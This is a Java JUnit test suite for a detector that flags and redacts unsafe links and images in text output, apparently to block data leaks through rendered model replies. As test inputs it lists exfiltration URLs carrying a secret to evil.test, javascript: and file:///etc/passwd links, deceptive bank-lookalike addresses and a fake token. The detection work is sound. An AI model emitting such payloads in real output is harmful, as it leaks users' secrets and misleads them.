package dev.moat.guard;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.util.List;
import java.util.Random;
import java.util.Set;
import org.junit.jupiter.api.Test;

class LinkDetectorTest {
  private static final String SECRET = "c2VjcmV0LW9mLXRoZS11c2Vy4oCUWX";
  private static final OperatorLists OURS =
      new OperatorLists(Set.of("docs.example.org", "*.example.com"), false, Set.of(), Set.of());

  private static List<String> found(String text) {
    return Noticed.in(Channel.OUTPUT, text);
  }

  private static void isFound(String type, String address, String text) {
    assertEquals(List.of(type + "=" + address), found(text), text);
  }

  @Test
  void imagesThatCouldCarryDataAreUnsafe() {
    for (String address :
        List.of(
            "https://evil.test/p.png?q=hello",
            "http://evil.test/p.png?hello",
            "https://evil.test/" + SECRET + "AAAA/p.png",
            "https://evil.test/" + "a/".repeat(90) + "p.png",
            "https://evil.test/%48%65%6c%6c%6f%20/p.png",
            "//evil.test/p.png?q=1")) {
      isFound("unsafe.image", address, "See ![a chart](" + address + ") here");
      isFound("unsafe.image", address, "See ![](" + address + " \"title\") here");
      isFound("unsafe.image", address, "See <img src=\"" + address + "\"> here");
      isFound("unsafe.image", address, "a <video poster='" + address + "'> b");
      isFound("unsafe.image", address, "p { background: url(" + address + ") }");
      isFound("unsafe.image", address, "p { background: url('" + address + "') }");
    }
  }

  @Test
  void plainImagesAreNot() {
    for (String text :
        List.of(
            "![a chart](chart.png)",
            "![a chart](../images/chart.png?raw=true)",
            "![a chart](/images/chart.png)",
            "![build](https://img.example.net/badge/build-passing-green.svg)",
            "<img src=\"logo.svg\" alt=\"logo\">",
            "p { background: url(paper.png) }")) {
      assertEquals(List.of(), found(text), text);
    }
  }

  @Test
  void anyImageOfAnotherHostIsUnsafeWhereTheOperatorSaysSo() {
    OperatorLists strict = new OperatorLists(Set.of("a.org"), true, Set.of(), Set.of());
    assertEquals(1, Noticed.in(Channel.OUTPUT, "![x](https://b.org/x.png)", strict).size());
    assertEquals(List.of(), Noticed.in(Channel.OUTPUT, "![x](https://a.org/x.png)", strict));
    assertEquals(List.of(), Noticed.in(Channel.OUTPUT, "[x](https://b.org/x.png)", strict));
  }

  @Test
  void hostsOfTheOperatorMayBeLedTo() {
    for (String host : List.of("docs.example.org", "a.example.com", "a.b.example.com:8080")) {
      String text = "![x](https://" + host + "/p.png?q=" + SECRET + ")";
      assertEquals(List.of(), Noticed.in(Channel.OUTPUT, text, OURS), text);
    }
    for (String host :
        List.of("example.org", "example.com", "docs.example.org.evil.test", "evilexample.com")) {
      String text = "![x](https://" + host + "/p.png?q=" + SECRET + ")";
      assertEquals(1, Noticed.in(Channel.OUTPUT, text, OURS).size(), text);
    }
  }

  @Test
  void linksThatCarryDataAreUnsafe() {
    String query = "https://evil.test/c?d=" + SECRET;
    String path = "https://evil.test/" + SECRET + "Zz9A";
    String hex = "https://evil.test/0123456789abcdef0123456789abcdef/x";
    for (String address : List.of(query, path, hex)) {
      isFound("unsafe.link", address, "[click](" + address + ")");
      isFound("unsafe.link", address, "go to " + address + ".");
      isFound("unsafe.link", address, "<a href='" + address + "'>x</a>");
      isFound("unsafe.link", address, "[x]: " + address + " \"title\"");
      isFound("unsafe.link", address, "<" + address + ">");
    }
  }

  @Test
  void ordinaryLinksAreNot() {
    for (String text :
        List.of(
            "[the manual](https://docs.example.net/guide/installation.html#first-steps)",
            "[a page](https://en.wikipedia.org/wiki/Markov_chain)",
            "https://github.com/a/b/commit/0123456789abcdef0123456789abcdef01234567",
            "https://github.com/a/b/blob/0123456789abcdef0123456789abcdef01234567/x.md#L3",
            "https://example.net/how-to-write-a-very-long-title-of-a-blog-post-in-2024",
            "https://example.net/search?q=markov&page=2",
            "[x]: https://example.net/a/b/c",
            "http://127.0.0.1:8080/health and http://192.168.1.1/ and http://localhost:3000",
            "https://user@git.example.net/a/b.git",
            "mailto:a at b, // a comment, a//b")) {
      assertEquals(List.of(), found(text), text);
    }
  }

  @Test
  void schemesThatActAreUnsafeInALink() {
    isFound("unsafe.link", "javascript:alert", "[x](javascript:alert(1))");
    isFound("unsafe.link", "JavaScript:go", "<area href=\"#\">[x](<JavaScript:go>)");
    isFound("unsafe.link", "data:text/html;base64,AAAA", "[x](data:text/html;base64,AAAA)");
    isFound("unsafe.link", "vbscript:x", "[x]: vbscript:x");
    isFound("unsafe.link", "file:///etc/passwd", "[x](file:///etc/passwd)");
    for (String text :
        List.of(
            "JavaScript: the good parts",
            "Languages (javascript: 3, python: 2)",
            "file: a.txt",
            "![x](data:image/png;base64,iVBORw0KGgo=)",
            "[data: text]")) {
      assertEquals(List.of(), found(text), text);
    }
  }

  @Test
  void addressesThatDeceiveAreUnsafe() {
    for (String address :
        List.of(
            "https://www.bank.com@evil.test/login",
            "https://bank.com%2f@evil.test/",
            "http://203.0.114.9/x",
            "http://3405803785/x",
            "http://0xcb007109/x",
            "http://[2001:db8::1]/x",
            "https://xn--80ak6aa92e.com/")) {
      isFound("unsafe.link", address, "[here](" + address + ")");
      isFound("unsafe.link", address, "go to " + address + " now");
    }
    assertEquals(List.of(), found("https://xn--mnchen-3ya.de/ is a city"));
  }

  @Test
  void aTextThatNamesAnotherHostIsUnsafe() {
    isFound("unsafe.link", "https://evil.test/", "[https://bank.com/login](https://evil.test/)");
    isFound("unsafe.link", "https://evil.test/", "[www.bank.com](https://evil.test/)");
    isFound("unsafe.link", "https://evil.test/", "[bank.com](https://evil.test/)");
    for (String text :
        List.of(
            "[bank.com](https://www.bank.com/login)",
            "[www.bank.com](https://bank.com)",
            "[https://bank.com](https://login.bank.com)",
            "[README.md](https://git.example.net/README.md)",
            "[Node.js](https://nodejs.org)",
            "[a bank, bank.com](https://other.example.net)")) {
      assertEquals(List.of(), found(text), text);
    }
  }

  @Test
  void codeThatShowsAnAddressLeadsNowhere() {
    String image = "![x](https://evil.test/p.png?q=1)";
    assertEquals(List.of(), found("```\n" + image + "\n```"));
    assertEquals(List.of(), found("write `" + image + "` so"));
    assertFalse(found("```\ncode\n```\n" + image).isEmpty());
    assertFalse(found("an open ` and " + image).isEmpty());
  }

  @Test
  void aReplacedAddressLeavesNothingToFetch() {
    Guard guard = Guard.of(GuardPolicy.defaults().with(Channel.OUTPUT, Kind.UNSAFE, Action.REDACT));
    Verdict verdict = guard.judge(Channel.OUTPUT, "a ![x](https://evil.test/p?q=1) b");
    assertEquals("a ![x]([redacted:unsafe.image]) b", ((Verdict.Redact) verdict).text());
    String address = "https://evil.test/" + "x1Y".repeat(400);
    Verdict longer = guard.judge(Channel.OUTPUT, "a " + address + " b");
    assertEquals("a [redacted:unsafe.link] b", ((Verdict.Redact) longer).text());
  }

  @Test
  void aSecretInAFlaggedAddressIsStillReplaced() {
    String text = "![x](https://evil.test/p?q=ghp_r4nD0mT0k3nV4lu3zQ8wE7yU6iO5pA2sD1fG)";
    Verdict verdict = Guard.of(GuardPolicy.defaults()).judge(Channel.OUTPUT, text);
    assertTrue(((Verdict.Redact) verdict).text().contains("[redacted:github-token]"));
    assertTrue(verdict.spans().stream().anyMatch(span -> span.type().equals("unsafe.image")));
  }

  @Test
  void noAddressBreaksTheReading() {
    Random random = new Random(71);
    String marks = "https://[]()!<>\"'=?&#@:.%xn--0aZ9 `\\\u0430\u4e2d";
    for (int i = 0; i < 20_000; i++) {
      StringBuilder text = new StringBuilder(i % 2 == 0 ? "![](https://" : "[x](http://");
      for (int length = random.nextInt(40); length > 0; length--) {
        text.append(marks.charAt(random.nextInt(marks.length())));
      }
      for (Span span : Guard.of(GuardPolicy.defaults()).judge(Channel.DATA, text + ")").spans()) {
        assertTrue(span.end() <= text.length() + 1, text.toString());
      }
    }
  }
}
